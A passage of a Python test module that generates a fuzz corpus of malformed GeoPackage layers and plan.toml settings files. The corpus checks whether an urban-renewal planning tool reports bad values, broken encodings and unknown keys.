            layers = base if after else planted(base, layer, fld, value)
            expect = "report" if kind == "nul" or (is_id and kind == "blank") else "any"
            show_map = kind == "script" and layer == "compounds" and fld == "name"
            plan = base_plan()
            if show_map:
                plan["map"] = {"enabled": True, "reports": True, "basemap": "none"}
            cases.append(Case(
                id=f"str-{layer}.{fld}-{kind}", family="str", writer=_gpkg_case(layers, plan, after=after),
                where=(layer, fld), row=(ROW,) if is_id else _row(layer), expect=expect,
                hostile=(layer, fld, value), map=show_map))
            if kind == "nul" and is_id:
                def write(f: Path, layer: str = layer, fld: str = fld, value: str = value) -> None:
                    write_folder(f / "layers", planted(base, layer, fld, value))
                    write_plan(f, base_plan("layers"))
                cases.append(Case(id=f"str-{layer}.{fld}-nuljson", family="str", writer=write,
                                  where=(layer, fld), row=(ROW,), expect="report", hostile=(layer, fld, value)))
    return cases


def _sqlite_set(layer: str, fld: str, value: str) -> Callable[[Path], None]:
    """Put ``value`` (which GDAL cannot write, e.g. with a NUL) into row 2 of ``layer`` with SQLite."""
    def after(folder: Path) -> None:
        db = sqlite3.connect(folder / "layers.gpkg")
        # the GeoPackage's R-tree triggers name these SpatiaLite functions; they only fire when fid or the
        # geometry changes, which this update does not do
        for fn in ("ST_IsEmpty", "ST_MinX", "ST_MaxX", "ST_MinY", "ST_MaxY"):
            db.create_function(fn, 1, lambda g: 0)
        try:
            with db:
                rowid = db.execute(f'SELECT fid FROM "{layer}" ORDER BY fid LIMIT 1 OFFSET 1').fetchone()[0]
                db.execute(f'UPDATE "{layer}" SET "{fld}" = ? WHERE fid = ?', (value, rowid))
        finally:
            db.close()
    return after


# --- (e) plan.toml -----------------------------------------------------------------------------------
#: per default type: defect name → (value, must it be reported?)
_FLOAT_DEFECTS = {"wrongtype": ("500", True), "nan": (float("nan"), True), "inf": (float("inf"), True),
                  "negative": (-5.0, True), "zero": (0.0, False), "huge": (1e300, False)}
_INT_DEFECTS = {"wrongtype": ("5", True), "nan": (float("nan"), True), "negative": (-5, True),
                "zero": (0, False), "huge": (2**62, False), "fraction": (2.5, True)}
_STR_DEFECTS = {"wrongtype": (42, True), "empty": ("", True), "unknown": ("zz_unknown", True),
                "nul": ("osm\x00", True)}
_BOOL_DEFECTS = {"wrongtype": ("yes", True), "int": (1, True)}
#: settings whose value is free text (any string is valid, so only the wrong type is a defect)
_FREE_TEXT = {("name",), ("map", "tianditu_key")}


def setting_paths(table: Mapping[str, Any],
                  prefix: tuple[str, ...] = ()) -> list[tuple[tuple[str, ...], Any]]:
    """Every leaf of a settings table: (path of keys, default value)."""
    out = []
    for k, v in table.items():
        if isinstance(v, Mapping):
            out.extend(setting_paths(v, (*prefix, k)))
        else:
            out.append(((*prefix, k), v))
    return out


def _set(doc: dict[str, Any], path: tuple[str, ...], value: Any) -> dict[str, Any]:
    doc = json.loads(json.dumps(doc))  # deep copy (the plan holds only JSON-able values)
    node = doc
    for k in path[:-1]:
        node = node.setdefault(k, {})
    node[path[-1]] = value
    return doc


def _defects_for(default: Any, path: tuple[str, ...]) -> dict[str, tuple[Any, bool]]:
    if isinstance(default, bool):
        return _BOOL_DEFECTS
    if isinstance(default, int):
        return _INT_DEFECTS
    if isinstance(default, float):
        return _FLOAT_DEFECTS
    if isinstance(default, str):
        if path in _FREE_TEXT:
            return {"wrongtype": (["a"], True)}
        return _STR_DEFECTS
    return {"wrongtype": ("x", True)}


#: how many of the finance parameters (in file order) get a defect: the rest are alike (rates, fees)
FINANCE_KEYS = 6


def _stage_numeric_keys() -> list[tuple[tuple[str, ...], Any]]:
    """Numeric settings of the stage sections, as plan.toml paths with their defaults (read from the data)."""
    keys: list[tuple[tuple[str, ...], Any]] = []
    for section in ("eligibility", "bundling"):
        for k, v in load_toml(f"{section}.toml")["settings"].items():
            if isinstance(v, int | float) and not isinstance(v, bool):
                keys.append(((section, k), v))
    for k, v in load_toml("siting.toml")["solve"].items():
        if isinstance(v, int | float) and not isinstance(v, bool):
            keys.append((("siting", "solve", k), v))
    for k, v in list(load_toml("finance.toml")["params"].items())[:FINANCE_KEYS]:
        if isinstance(v, Mapping) and isinstance(v.get("value"), int | float) and not isinstance(v["value"], bool):
            keys.append((("finance", k), v["value"]))
    for k, v in load_toml("costs.toml")["classes"].items():
        keys.append((("costs", k), v["unit_cost_cny_m2"]))
    return keys


def _plan_cases() -> list[Case]:
    cases: list[Case] = []
    plan = base_plan()
    for path, default in setting_paths(default_settings()):
        for name, (value, must) in _defects_for(default, path).items():
            doc = _set(plan, path, value)
            if path[0] == "map" and path[-1] in ("basemap", "lang", "tianditu_key"):
                doc["map"].update({"enabled": True, "reports": False})
                doc["map"].setdefault("basemap", "none")
            cases.append(Case(id=f"plan-{'.'.join(path)}-{name}", family="plan", writer=_gpkg_case(plan=doc),
                              where=("plan.toml", path[-1]), expect="report" if must else "any",
                              map=doc["map"].get("enabled") is True))
    # the numeric stage settings: each key gets one defect, the defects taking turns
    turns = [("nan", float("nan")), ("negative", -1), ("wrongtype", "1"), ("inf", float("inf")),
             ("huge", 1e300)]
    for i, (path, default) in enumerate(_stage_numeric_keys()):
        name, value = turns[i % len(turns)]
        if name == "negative":
            value = -1 if isinstance(default, int) else -1.0
        cases.append(Case(id=f"plan-{'.'.join(path)}-{name}", family="plan",
                          writer=_gpkg_case(plan=_set(plan, path, value)), where=("plan.toml", path[-1]),
                          expect="any" if name == "huge" else "report"))

    def raw_plan(case_id: str, data: bytes, where: tuple[str, ...], expect: str = "report") -> None:
        def after(f: Path) -> None:
            (f / "plan.toml").write_bytes(data)
        cases.append(Case(id=case_id, family="plan", writer=_gpkg_case(after=after), where=where,
                          expect=expect))

    text = toml_text(plan)
    raw_plan("plan-file-gbk", ('name = "片区改造"\n' + text.split("\n", 1)[1]).encode("gbk"), ("plan.toml",))
    raw_plan("plan-file-latin1comment", ("# café\n" + text).encode("latin-1"), ("plan.toml",))
    raw_plan("plan-file-utf16", text.encode("utf-16"), ("plan.toml",))
    raw_plan("plan-file-utf8bom", text.encode("utf-8-sig"), ("plan.toml",), expect="any")
    raw_plan("plan-file-syntaxerror", (text + "\n[network\nmax_snap_m = \n").encode(), ("plan.toml",))
    raw_plan("plan-file-duplicatekey", (text + '\nname = "again"\n').encode(), ("plan.toml", "name"))
    raw_plan("plan-file-randombytes", rng_for("plan-random").bytes(2048), ("plan.toml",))
    raw_plan("plan-file-empty", b"", ("layers",))
    raw_plan("plan-file-nul", text.encode() + b"\x00\n", ("plan.toml",))
    for case_id, doc, where in [
        ("plan-network-unknownkey", _set(plan, ("network", "max_snap"), 300.0), ("plan.toml", "max_snap")),
        ("plan-networks-unknownsection", _set(plan, ("networks", "max_snap_m"), 300.0), ("plan.toml", "networks")),
        ("plan-network-notatable", {**plan, "network": 5}, ("plan.toml", "network")),
        ("plan-map-notatable", {**plan, "map": "none"}, ("plan.toml", "map")),
        ("plan-layers-number", {**plan, "layers": 5}, ("plan.toml", "layers")),
        ("plan-layers-list", {**plan, "layers": ["layers.gpkg"]}, ("plan.toml", "layers")),
        ("plan-siting-notatable", {**plan, "siting": {"solve": 3}}, ("plan.toml", "solve")),
        ("plan-finance-unknownkey", _set(plan, ("finance", "discount"), 0.05), ("plan.toml", "discount")),
        ("plan-eligibility-cutoff1800", _set(plan, ("eligibility", "primary_cutoff_year"), 1800),
         ("plan.toml", "primary_cutoff_year")),
        ("plan-eligibility-cutoffsreversed", _set(_set(plan, ("eligibility", "primary_cutoff_year"), 2010),
                                                  ("eligibility", "secondary_cutoff_year"), 1990),
         ("plan.toml", "cutoff_year")),
        ("plan-standards-unknowntype", _set(plan, ("standards", "spaceport", "radius_m"), 500.0),
         ("plan.toml", "spaceport")),
        ("plan-crs-geographic", _set(plan, ("crs", "metric"), "EPSG:4326"), ("plan.toml", "metric")),
        ("plan-crs-nonsense", _set(plan, ("crs", "metric"), "EPSG:99999999999"), ("plan.toml", "metric")),
    ]:
        expect = "any" if case_id in ("plan-crs-geographic",) else "report"
        cases.append(Case(id=case_id, family="plan", writer=_gpkg_case(plan=doc), where=where, expect=expect))
    return cases


# ----------------------------------------------------------------------------------------------- all
@cache
def _all_cases() -> tuple[Case, ...]:
    out = [Case(id="base-district-clean", family="base", writer=_gpkg_case(),
                names=("compounds", tuple(base_layers()["compounds"]["name"])))]
    out += _number_cases() + _geometry_cases() + _file_cases() + _string_cases() + _plan_cases()
    ids = [c.id for c in out]
    duplicates = {i for i in ids if ids.count(i) > 1}
    if duplicates:
        raise AssertionError(f"duplicate fuzz case ids: {sorted(duplicates)}")
    return tuple(out)


def cases() -> list[Case]:
    """Every case of the corpus (described, not written)."""
    return list(_all_cases())


def build_all(root: Path) -> dict[str, Path]:
    """Write every case into ``root/<case id>/``; return case id → folder."""
    return {c.id: c.build(root / c.id) for c in _all_cases()}


if __name__ == "__main__":  # pragma: no cover
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "fuzz_corpus")
    built = build_all(target)
    print(f"{len(built)} cases written to {target}")
